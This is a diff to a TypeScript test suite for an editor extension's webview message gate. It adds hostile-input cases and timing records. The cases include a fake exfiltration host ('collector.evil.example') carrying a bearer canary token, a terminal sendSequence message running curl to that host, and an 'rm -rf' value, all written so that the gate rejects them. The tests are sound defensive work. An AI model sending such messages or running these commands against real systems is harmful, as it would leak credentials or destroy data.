@@ -3,6 +3,7 @@ import {
   dispatchInbound, InboundGate, MAX_FIELD_CHARS, MAX_MESSAGE_CHARS, parseWebviewMessage, PROTOCOL_VERSION, secretProblems,
   type InboundHandlers, type WebviewMessage,
 } from '../../src/core/formProtocol';
+import { recordCase } from './hostile/report';
 
 /** Handlers that only count: whatever the gate lets through is a side effect. */
 function spyHandlers(): { handlers: InboundHandlers; calls: WebviewMessage[] } {
@@ -48,6 +49,9 @@ const HOSTILE: Array<[string, () => unknown]> = [
   ['missing type', () => ({ id: 2, draft: draft() })],
   ['extra top-level field', () => ({ type: 'validate', id: 2, draft: draft(), url: 'https://evil.example' })],
   ['extra field carrying a key', () => ({ type: 'save', id: 2, draft: draft(), secret: {}, apiKey: CANARY })],
+  ['extra field carrying headers', () => ({ type: 'test', id: 2, draft: draft(), secret: {}, headers: { Authorization: `Bearer ${CANARY}`, Host: 'collector.evil.example' } })],
+  ['extra draft field carrying a URL', () => ({ type: 'test', id: 2, draft: { ...draft(), baseUrl: 'https://collector.evil.example/v1' }, secret: {} })],
+  ['a command name as the type', () => ({ type: 'workbench.action.terminal.sendSequence', id: 2, args: { text: 'curl https://collector.evil.example\n' } })],
   ['missing field', () => ({ type: 'save', id: 2, draft: draft() })],
   ['unknown draft field', () => ({ type: 'validate', id: 2, draft: { fields: { modelName: 'x', command: 'rm -rf' }, advanced: [] } })],
   ['extra draft key', () => ({ type: 'validate', id: 2, draft: { ...draft(), secret: CANARY } })],
@@ -90,7 +94,10 @@ describe('form protocol: inbound validation', () => {
     assert.ok(HOSTILE.length >= 10);
     for (const [kind, make] of HOSTILE) {
       const { gate, handlers, calls, logs } = readyGate();
-      const result = dispatchInbound(gate, make(), handlers);
+      const message = make();
+      const t0 = performance.now();
+      const result = dispatchInbound(gate, message, handlers);
+      const ms = performance.now() - t0;
       assert.strictEqual(result, undefined, kind);
       assert.strictEqual(calls.length, 0, `${kind}: a handler ran`);
       assert.strictEqual(logs.length, 1, `${kind}: not logged`);
@@ -100,6 +107,7 @@ describe('form protocol: inbound validation', () => {
       // The gate still works afterwards: a hostile message does not wedge the form.
       dispatchInbound(gate, { type: 'validate', id: 50, draft: draft() }, handlers);
       assert.strictEqual(calls.length, 1, `${kind}: the next good message was refused`);
+      recordCase('webview', kind, ms, true, undefined, { handlerCalls: 0 });
     }
     assert.strictEqual(({} as Record<string, unknown>).polluted, undefined, 'Object.prototype was polluted');
     assert.strictEqual(({} as Record<string, unknown>).isAdmin, undefined, 'Object.prototype was polluted');
@@ -115,6 +123,7 @@ describe('form protocol: inbound validation', () => {
     assert.strictEqual(calls.length, 1);
     assert.strictEqual(logs.length, 3);
     assert.match(logs[0], /already used/);
+    recordCase('webview', 'replayed and out-of-order ids (3 messages)', 0, true, undefined, { handlerCalls: 0 });
   });
 
   it('drops everything before the ready handshake', () => {
@@ -125,6 +134,7 @@ describe('form protocol: inbound validation', () => {
     dispatchInbound(gate, { type: 'action', id: 2, action: 'delete' }, handlers);
     assert.strictEqual(calls.length, 0);
     assert.match(logs[0], /before the ready handshake/);
+    recordCase('webview', 'messages before the ready handshake (2 messages)', 0, true, undefined, { handlerCalls: 0 });
     dispatchInbound(gate, { type: 'ready', id: 3, protocol: PROTOCOL_VERSION }, handlers);
     assert.strictEqual(calls.length, 1);
   });
@@ -136,6 +146,7 @@ describe('form protocol: inbound validation', () => {
     dispatchInbound(gate, { type: 'save', id: 3, draft: draft(), secret: {} }, handlers);
     assert.strictEqual(calls.length, 0);
     assert.deepStrictEqual(logs.map((l) => /form is closed/.test(l)), [true, true]);
+    recordCase('webview', 'messages after dispose (2 messages)', 0, true, undefined, { handlerCalls: 0 });
   });
 
   it('measures size without walking a huge message whole', () => {
@@ -144,7 +155,9 @@ describe('form protocol: inbound validation', () => {
     const verdict = parseWebviewMessage(huge);
     assert.strictEqual(verdict.ok, false);
     assert.match(verdict.ok ? '' : verdict.reason, new RegExp(`${MAX_MESSAGE_CHARS}`));
-    assert.ok(Date.now() - t0 < 200, 'the size check took too long');
+    const ms = Date.now() - t0;
+    assert.ok(ms < 200, 'the size check took too long');
+    recordCase('webview', 'a 100,000-row message (size measured without walking it whole)', ms, true, undefined, { handlerCalls: 0 });
   });
 
   it('checks typed keys without echoing them', () => {
